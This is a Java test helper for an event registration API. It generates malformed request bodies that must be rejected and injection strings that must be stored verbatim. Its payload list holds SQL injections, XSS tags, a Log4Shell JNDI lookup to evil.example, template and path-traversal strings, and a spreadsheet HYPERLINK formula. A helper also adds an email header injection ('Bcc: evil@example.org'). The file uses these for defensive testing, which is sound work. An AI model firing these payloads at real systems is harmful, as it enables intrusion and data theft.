package se.samverka.api;

import jakarta.json.Json;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.quicktheories.core.Gen;
import org.quicktheories.core.RandomnessSource;
import org.quicktheories.impl.Constraint;

/**
 * Generated hostile request bodies: a valid body with one field replaced by a value that must be refused
 * (a wrong JSON type, a null in a list, a text over its column or with control characters, a date outside
 * any calendar Samverka plans in, an unknown choice, a number out of range, a required field left out),
 * and texts that are hostile only in meaning (SQL, markup, template and path injections, odd Unicode),
 * which must be stored and shown back exactly as given.
 */
final class HostileInput {

    /** What a field holds, with its limit where it has one. */
    enum Kind { ONE_LINE, MULTI_LINE, EMAIL, CHOICE, DATE, DATE_TIME, TIME, WHOLE_NUMBER, YES_NO, ID_LIST, DATE_LIST, TEXT_MAP }

    /** One field of a body: its JSON name, kind, limit (characters, or the smallest number), whether it is required. */
    record Field(String name, Kind kind, int limit, boolean required) {
    }

    /** A body and why it must be refused (its field, and what was done to it). */
    record Case(String field, String what, String body) {
        @Override
        public String toString() {
            return field + " (" + what + "): " + (body.length() > 300 ? body.substring(0, 300) + "…" : body);
        }
    }

    static final List<String> INJECTIONS = List.of(
            "Robert'); DROP TABLE registration;--", "' OR '1'='1", "<script>alert('x')</script>",
            "<img src=x onerror=alert(1)>", "${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}", "../../../etc/passwd",
            "=HYPERLINK(\"http://evil.example\")", "@SUM(A1)", "Åsa-Märta Ölund", "李小龙", "\u202Egnp.exe",
            "Zoë \uD83D\uDE00 Ünal", "a\u0301\u0301\u0301", "%00%0d%0a", "\\\\server\\share", "null", "undefined",
            "\"quoted\"", "ﷺ", "Ǆ");

    private HostileInput() {
    }

    /** A valid body (fields as raw JSON) with one field made hostile in a way that must be refused. */
    static Gen<Case> refused(Map<String, String> valid, List<Field> fields) {
        return in -> {
            Field field = fields.get(pick(in, fields.size()));
            Map<String, String> body = new LinkedHashMap<>(valid);
            List<String[]> options = hostileValues(field, in);
            String[] chosen = options.get(pick(in, options.size()));
            if (chosen[1] == null) {
                body.remove(field.name());
            } else {
                body.put(field.name(), chosen[1]);
            }
            return new Case(field.name(), chosen[0], json(body));
        };
    }

    /** Values of this field's kind that must be refused; each as {what, raw JSON} (null JSON: left out). */
    private static List<String[]> hostileValues(Field field, RandomnessSource in) {
        List<String[]> values = new ArrayList<>();
        values.add(new String[] {"wrong type", wrongType(field.kind(), in)});
        if (field.required()) {
            values.add(new String[] {"left out", null});
            values.add(new String[] {"null", "null"});
        }
        switch (field.kind()) {
            case ONE_LINE, EMAIL -> {
                values.add(new String[] {"too long", text(randomText(in, field.limit() + 1 + pick(in, 3000)))});
                values.add(new String[] {"control characters", text(withControl(in, "Anna", true))});
                if (field.kind() == Kind.EMAIL) {
                    values.add(new String[] {"not an address", text(List.of("a@b", "x@@y.example", "<a@b.example>",
                            "a b@c.example", "a@b.example, c@d.example", "@example.org", "anna").get(pick(in, 7)))});
                }
            }
            case MULTI_LINE -> {
                values.add(new String[] {"too long", text(randomText(in, field.limit() + 1 + pick(in, 3000)))});
                values.add(new String[] {"control characters", text(withControl(in, "Vegetarisk\nUtan nötter", false))});
            }
            case CHOICE -> values.add(new String[] {"unknown choice", text(List.of("PARTY", "SCHOOL_X", "",
                    "FIRE_BRIGADE", "ORGANISER_", "ADMIN", "0", "\u0000").get(pick(in, 8)))});
            case DATE -> values.add(new String[] {"impossible date", text(List.of("+999999999-12-01", "-000001-01-01",
                    "1899-12-31", "2200-01-01", "2031-02-30", "2031-13-01", "31/12/2031", "0000-01-01", "20310101",
                    "2031-1-1").get(pick(in, 10)))});
            case DATE_TIME -> values.add(new String[] {"impossible time", text(List.of("+999999999-12-01T10:00",
                    "1899-12-31T10:00", "2200-01-01T00:00", "2031-02-30T10:00", "2031-05-06T25:00", "2031-05-06",
                    "2031-05-06 10:00", "yesterday").get(pick(in, 8)))});
            case TIME -> values.add(new String[] {"impossible time", text(List.of("24:00", "12:60", "-01:00", "noon",
                    "1200", "12:00:00:00").get(pick(in, 6)))});
            case WHOLE_NUMBER -> values.add(new String[] {"out of range", List.of("99999999999", "-1", "-2147483649",
                    "1.5", "1e3", "4294967297", "-0.5").get(pick(in, 7))});
            case YES_NO -> values.add(new String[] {"not yes or no", List.of("\"true\"", "1", "0", "\"x\"", "\"yes\"",
                    "[]").get(pick(in, 6))});
            case ID_LIST -> values.add(new String[] {"bad ids", List.of("[null]", "[1,null]", "[\"12\"]", "[1.5]",
                    "[99999999999999999999]", "[-1]", "[987654321]", "[[1]]", many("1", 600)).get(pick(in, 9))});
            case DATE_LIST -> values.add(new String[] {"bad days", List.of("[null]", "[\"2031-02-30\"]",
                    "[\"+999999999-12-01\"]", "[\"1999-01-01\"]", "[1]", "[[\"2031-05-06\"]]", "[\"2199-01-01\"]")
                    .get(pick(in, 7))});
            case TEXT_MAP -> values.add(new String[] {"bad answers", List.of("{\"1\":1}", "{\"1\":[\"a\"]}",
                    "{\"1\":{\"a\":\"b\"}}", "[\"a\"]", many("\"k%d\":\"v\"", 600).replace("[", "{").replace("]", "}"),
                    "{\"" + "k".repeat(200) + "\":\"v\"}").get(pick(in, 6))});
            default -> { }
        }
        return values;
    }

    private static String wrongType(Kind kind, RandomnessSource in) {
        List<String> candidates = switch (kind) {
            case ONE_LINE, MULTI_LINE, EMAIL, CHOICE, DATE, DATE_TIME, TIME -> List.of("123", "true", "[\"a\"]", "{\"a\":1}",
                    "12.5");
            case WHOLE_NUMBER -> List.of("\"12\"", "true", "[1]", "{}", "\"\"");
            case YES_NO -> List.of("\"false\"", "0", "[]", "{}", "\"\"");
            case ID_LIST, DATE_LIST -> List.of("\"1,2\"", "12", "{}", "true");
            case TEXT_MAP -> List.of("\"a\"", "12", "[]", "true");
        };
        return candidates.get(pick(in, candidates.size()));
    }

    /** A text meant to be accepted: an injection or odd Unicode, within the limit, without control characters. */
    static Gen<String> injection() {
        return in -> INJECTIONS.get(pick(in, INJECTIONS.size()));
    }

    /** Bodies that are no JSON object of any kind, or too big, or too deep. */
    static Gen<String> junk() {
        return in -> switch (pick(in, 9)) {
            case 0 -> "";
            case 1 -> "{";
            case 2 -> "[" .repeat(20_000) + "]".repeat(20_000);
            case 3 -> "{\"a\":" .repeat(5000) + "1" + "}".repeat(5000);
            case 4 -> "null";
            case 5 -> "\"just text\"";
            case 6 -> "{\"firstName\":\"" + "x".repeat(300_000) + "\"}";
            case 7 -> new String(new char[] {0xFEFF, '[', ']'});
            default -> randomText(in, 1 + pick(in, 200));
        };
    }

    static String json(Map<String, String> fields) {
        StringBuilder out = new StringBuilder("{");
        fields.forEach((name, raw) -> out.append(out.length() > 1 ? "," : "").append(text(name)).append(':').append(raw));
        return out.append('}').toString();
    }

    static String text(String value) {
        return Json.createValue(value).toString();
    }

    private static String many(String item, int count) {
        StringBuilder out = new StringBuilder("[");
        for (int i = 0; i < count; i++) {
            out.append(i > 0 ? "," : "").append(item.contains("%d") ? item.formatted(i) : item);
        }
        return out.append(']').toString();
    }

    private static String withControl(RandomnessSource in, String around, boolean oneLine) {
        List<String> controls = oneLine ? List.of("\r\n", "\n", "\r", "\u0000", "\t", "\u0007", "\u001b[31m", "\u2028",
                "\u0085", "\u007f") : List.of("\u0000", "\u0007", "\u001b[31m", "\u0085", "\u007f", "\u000b", "\u000c");
        String control = controls.get(pick(in, controls.size()));
        int at = 1 + pick(in, around.length() - 1); // inside: at the ends it would only be stripped like a space
        return around.substring(0, at) + control + (oneLine && control.contains("\n") ? "Bcc: evil@example.org" : "")
                + around.substring(at);
    }

    /** A text of this length; one draw seeds it, so that long texts cost QuickTheories one choice, not thousands. */
    private static String randomText(RandomnessSource in, int length) {
        java.util.Random random = new java.util.Random(in.next(Constraint.none()));
        StringBuilder text = new StringBuilder(length);
        String alphabet = "abcåäöÅÄÖ 0123456789'\"<>&;-_\\/€😀中";
        while (text.length() < length) {
            int index = random.nextInt(alphabet.length());
            char c = alphabet.charAt(index);
            if (Character.isSurrogate(c)) {
                text.append("x");
            } else {
                text.append(c);
            }
        }
        text.setCharAt(0, 'x');
        text.setCharAt(text.length() - 1, 'x');
        return text.toString();
    }

    static int pick(RandomnessSource in, int bound) {
        return (int) in.next(Constraint.between(0, bound - 1L));
    }
}
